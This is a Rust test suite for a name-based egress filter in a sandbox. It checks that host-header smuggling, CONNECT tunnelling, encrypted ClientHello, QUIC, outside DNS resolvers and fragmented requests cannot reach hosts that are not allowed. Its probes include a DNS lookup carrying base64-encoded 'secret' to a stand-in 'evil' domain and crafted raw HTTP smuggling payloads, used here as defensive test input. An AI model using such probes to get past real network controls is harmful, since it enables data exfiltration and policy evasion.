//! Rules that go by names: the name that a connection says decides, wherever its address comes from.

use crate::guest::Guest;
use crate::reach::{nobody_saw, unanswered};
use crate::stage::{Stage, places};
use crate::world::Sight;

crate::stories![
    what_is_allowed_by_name_is_reached_by_that_name_alone,
    a_greeting_may_come_in_pieces_but_must_say_the_name,
    what_hides_names_is_refused,
    other_ports_of_a_name_want_an_entry_with_the_port,
    a_wildcard_is_about_names_below_and_no_others,
    names_that_are_not_allowed_are_not_even_asked_for,
    before_a_name_was_allowed_no_byte_gets_out,
];

const BY_NAME: &[&str] = &[
    "--egress",
    "deny",
    "--allow",
    "example.com",
    "--allow",
    "www.example.com",
    "--allow",
    "*.wild.example.com",
    "--allow",
    "git.example.com:9003",
];

fn what_is_allowed_by_name_is_reached_by_that_name_alone(stage: &Stage) {
    let guest = Guest::create(stage, "a", BY_NAME);
    guest.expect(&[
        ("http('www.example.com', 'www.example.com')", places::WWW),
        ("http('www.example.com', 'WWW.Example.COM')", places::WWW),
        ("http('www.example.com', 'www.example.com:80')", places::WWW),
        ("https('www.example.com', 'www.example.com')", places::WWW),
        // An address that an allowed name has led to may be dialled by itself; the name is said all the same.
        ("https('203.0.113.10', 'www.example.com')", places::WWW),
    ]);
    stage.world.take_sights();
    for probe in [
        "http('www.example.com', 'neighbour.example.org')",
        "http('www.example.com', None)",
        "http('www.example.com', None, version='1.0')",
        "http('www.example.com', '203.0.113.10')",
        "https('www.example.com', 'neighbour.example.org')",
        "https('www.example.com', None)",
        "raw('www.example.com', 80, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')",
        "raw('www.example.com', 80, b'CONNECT neighbour.example.org:443 HTTP/1.1\\r\\nHost: www.example.com\\r\\n\\r\\n')",
        "raw('www.example.com', 80, b'GET / HTTP/1.1\\r\\nHost: www.example.com\\r\\nHost: neighbour.example.org\\r\\n\\r\\n')",
        "raw('www.example.com', 80, b'GET http://neighbour.example.org/ HTTP/1.1\\r\\nHost: www.example.com\\r\\n\\r\\n')",
        "raw('www.example.com', 80, b'\\x16\\x03\\x01garbage' * 9)",
    ] {
        let said = guest.python(&format!("say({probe})"));
        assert!(["reset", "closed", "refused"].contains(&said[0].as_str()), "{probe}: {said:?}");
    }
    let said: Vec<_> = stage.world.take_sights().into_iter().filter(|sight| !sight.said.is_empty()).collect();
    assert!(said.iter().all(|sight| sight.service == "dns"), "bytes got out: {said:#?}");
    guest.expect_all("refused", &["tcp('203.0.113.66', 443)", "tcp('203.0.113.66', 80)", "tcp('203.0.113.11', 443)"]);
}

fn a_greeting_may_come_in_pieces_but_must_say_the_name(stage: &Stage) {
    let guest = Guest::create(stage, "a", BY_NAME);
    guest.expect(&[
        ("https('www.example.com', 'www.example.com', split=True)", places::WWW),
        (
            "where(raw('www.example.com', 80, b'GET / HT', b'TP/1.1\\r\\nHo', b'st: www.exam', b'ple.com\\r\\n', b'\\r\\n'))",
            places::WWW,
        ),
    ]);
    stage.world.take_sights();
    let said = guest.python(
        "say(https('www.example.com', 'neighbour.example.org', split=True))\n\
         say(raw('www.example.com', 80, b'GET / HTTP/1.1\\r\\nHost: neigh', b'bour.example.org\\r\\n\\r\\n'))",
    );
    assert!(said.iter().all(|word| word == "reset" || word == "closed"), "{said:?}");
}

fn what_hides_names_is_refused(stage: &Stage) {
    let guest = Guest::create(stage, "a", BY_NAME);
    guest.expect(&[
        ("https('www.example.com', 'www.example.com')", places::WWW),
        ("tcp('203.0.113.53', 53)", "refused"),
        ("tcp('203.0.113.53', 853)", "refused"),
        ("tcp('www.example.com', 853)", "refused"),
    ]);
    stage.world.take_sights();
    let said = guest.python(
        "say(https('www.example.com', 'www.example.com', extra=ECH))\n\
         say(udp('203.0.113.10', 443, b'\\xc3' + bytes(1199), tries=1))\n\
         say(ask('www.example.com', server='203.0.113.53', tries=1))",
    );
    assert!(["reset", "closed"].contains(&said[0].as_str()), "ECH: {said:?}");
    assert!(said[1..].iter().all(|word| unanswered(word)), "{said:?}");
    // But for the host's own resolver, which answered for the name.
    let told = |sight: &Sight| !sight.said.is_empty() && sight.at.ip().to_string() != places::RESOLVER;
    let seen: Vec<_> = stage.world.take_sights().into_iter().filter(told).collect();
    assert!(seen.is_empty(), "{seen:#?}");
}

fn other_ports_of_a_name_want_an_entry_with_the_port(stage: &Stage) {
    let guest = Guest::create(stage, "a", BY_NAME);
    guest.expect(&[
        ("raw('git.example.com', 9003, b'12345').strip()", "5"),
        ("tcp('git.example.com', 9001)", "refused"),
        ("tcp('www.example.com', 8080)", "refused"),
        ("tcp('www.example.com', 22)", "refused"),
    ]);
}

fn a_wildcard_is_about_names_below_and_no_others(stage: &Stage) {
    let guest = Guest::create(stage, "a", BY_NAME);
    guest.expect(&[
        ("http('a.wild.example.com', 'a.wild.example.com')", places::WILD),
        ("http('a.b.wild.example.com', 'a.b.wild.example.com')", places::WILD),
        ("http('A.Wild.Example.com.', 'a.wild.example.com.')", places::WILD),
        ("resolve('wild.example.com')", "unresolved"),
        ("resolve('awild.example.com')", "unresolved"),
        ("resolve('a.wild.example.com.example.org')", "unresolved"),
        ("resolve('example.org')", "unresolved"),
    ]);
}

fn names_that_are_not_allowed_are_not_even_asked_for(stage: &Stage) {
    let guest = Guest::create(stage, "a", BY_NAME);
    guest.expect(&[
        ("resolve('www.example.com')", places::WWW),
        ("resolve('c2VjcmV0.evil.example.org')", "unresolved"),
        ("resolve('evil.example.org')", "unresolved"),
        ("resolve('www.example.com.evil.example.org')", "unresolved"),
    ]);
    let asked = stage.world.take_questions();
    assert!(asked.iter().any(|question| question.starts_with("www.example.com ")), "{asked:?}");
    assert!(!asked.iter().any(|question| question.contains("example.org")), "{asked:?}");
}

fn before_a_name_was_allowed_no_byte_gets_out(stage: &Stage) {
    let guest = Guest::create(stage, "a", BY_NAME);
    guest.expect_all("reset", &["raw('www.example.com', 443)", "raw('www.example.com', 80)"]);
    guest.python("raw('www.example.com', 443, b'\\x16\\x03\\x01\\x02\\x00\\x01')");
    let said: Vec<_> = stage.world.take_sights().into_iter().filter(|sight| !sight.said.is_empty()).collect();
    assert!(said.iter().all(|sight| sight.service == "dns"), "bytes got out: {said:#?}");
    // An address that no name led to is dialled by nobody.
    guest.expect_all("refused", &["tcp('203.0.113.11', 80)"]);
    nobody_saw(&stage.world);
}
